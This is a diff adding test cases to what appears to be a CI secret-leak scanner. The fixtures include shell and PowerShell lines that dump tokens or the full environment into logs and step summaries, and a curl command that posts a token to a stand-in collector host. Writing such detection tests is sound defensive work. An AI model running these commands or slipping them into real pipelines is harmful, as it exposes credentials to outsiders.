@@ -34,10 +34,16 @@ def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
         ('echo "$TOKEN" | tee key', "tee", False),
         ('echo "$TOKEN" | grep -o x.', "grep", True),
         ('jq -r .a <<< "$TOKEN"', "jq", True),
+        ('echo "x $TOKEN" >> "$GITHUB_STEP_SUMMARY"', "echo", False),
+        ('{ echo x; echo "$TOKEN"; } >> "$GITHUB_STEP_SUMMARY"', "echo", False),
+        ('jq .a <<< "$TOKEN" >> "${GITHUB_STEP_SUMMARY}"', "jq", True),
+        ('echo "$TOKEN" | sha256sum >> "$GITHUB_STEP_SUMMARY"', "", False),
+        ("env >> $GITHUB_STEP_SUMMARY", "env", False),
         ('tr a b <<< "$TOKEN"', "tr", True),
         ('head -c 4 <<< "$TOKEN"', "head", True),
         ('openssl base64 <<< "$TOKEN"', "openssl", True),
         ("echo ${{ secrets.API }}", "echo", False),
+        ("echo ${{ SECRETS['API'] }}", "echo", False),
         ("printenv", "printenv", False),
         ("printenv TOKEN", "printenv", False),
         ("printenv TOKEN | base64", "base64", True),
@@ -53,6 +59,9 @@ def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
         ("env | grep CI_ | sort", "", False),
         ("env | sort > all.txt", "", False),
         ('set -ex\nlogin "$TOKEN"', "set -x", False),
+        ('set -eu -o xtrace -o pipefail\nlogin "$TOKEN"', "set -x", False),
+        ('set -eo xtrace\nmake\nset +o xtrace\nlogin "$TOKEN"', "", False),
+        ('set -o errexit -o pipefail\nlogin "$TOKEN"', "", False),
         ("set -x\ncurl ${{ secrets.API }}", "set -x", False),
         ('set -x\nmake\nset +x\nlogin "$TOKEN"', "", False),
         ('login "$TOKEN"\nset -ex\nmake', "", False),
@@ -152,6 +161,29 @@ def test_hosts_that_a_secret_reaches_unprotected(address: str, *, raw: bool) -> 
     assert [leak.raw for leak in leaks(script, HELD)[0]] == [raw]
 
 
+@pytest.mark.parametrize(
+    ("name", "to", "astray"),
+    [
+        ("PYPI_API_TOKEN", "collector.example", True),
+        ("AWS_SECRET_ACCESS_KEY", "collector.example", True),
+        ("GH_PAT", "collector.example", True),
+        ("GH_PAT", "git.acme.example", False),
+        ("NPM_TOKEN", "npm.acme.example", False),
+        ("NPM_TOKEN", "artifactory.acme.example", False),
+        ("NPM_TOKEN", "10.1.2.3", False),
+        ("DEPLOY_TOKEN", "collector.example", False),
+        ("MIGHTY_KEY", "collector.example", False),
+    ],
+)
+def test_secrets_that_go_elsewhere_than_their_names_say(
+    name: str, to: str, *, astray: bool
+) -> None:
+    text = f'curl -d "$TOKEN" https://{to}/x'
+    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
+    [leak] = leaks(script, {"TOKEN": Held(name)})[0]
+    assert leak.astray is astray
+
+
 def test_powershell_prints_too() -> None:
     assert look('Write-Host "x $env:TOKEN"', "pwsh") == [("log", "Write-Host", "", False)]
     assert look("print(TOKEN)", "python") == []
@@ -184,3 +216,43 @@ jobs:
 def test_the_whole_environment_in_powershell(text: str) -> None:
     assert [(way, derived) for way, _, _, derived in look(text, "pwsh")] == [("log", False)]
     assert look("Get-ChildItem env:PATH > a; Set-Item env:A b", "pwsh") == []
+
+
+@pytest.mark.parametrize(
+    ("script", "found"),
+    [
+        ('echo "$T" | base64', [("log", "API", True)]),
+        ("echo ${{ inputs.token }}", [("log", "TOKEN", False)]),
+        ("echo ${{ inputs.name }}", []),
+        ('login <<< "$T"', []),
+    ],
+)
+def test_what_an_action_is_handed_may_be_secret(script: str, found: list[object]) -> None:
+    use = "{uses: ./own, with: {Token: '${{ secrets.API }}', name: x}}"
+    action = (
+        "inputs: {token: {}, name: {}}\nruns:\n  using: composite\n  steps:\n"
+        f"  - shell: bash\n    env: {{T: '${{{{ inputs.token }}}}'}}\n    run: |\n      {script}\n"
+    )
+    for handed in (use, use.replace("secrets.API", "vars.API")):
+        files = {
+            ".github/workflows/x.yml": f"on: push\njobs:\n  a: {{runs-on: x, steps: [{handed}]}}\n",
+            "own/action.yml": action,
+        }
+        tree = MemoryTree({path: text.encode() for path, text in files.items()})
+        [pipeline] = load(decode("own/action.yml", action.encode()), tree).pipelines
+        [step] = pipeline.jobs[0].steps
+        said = [(leak.way, leak.secret, leak.derived) for leak in step.leaks]
+        assert said == (found if handed == use else [])
+
+
+@pytest.mark.parametrize(
+    ("text", "by"),
+    [
+        ("Get-ChildItem Env:", "Get-ChildItem"),
+        ("Get-ChildItem -Path Env:\\* | Format-Table", "Get-ChildItem"),
+        ("gi ENV:*", "gi"),
+        ("dir env:HOME\n$env:TOKEN | login", ""),
+    ],
+)
+def test_the_environment_as_a_drive(text: str, by: str) -> None:
+    assert look(text, "pwsh") == ([("log", by, "", False)] if by else [])
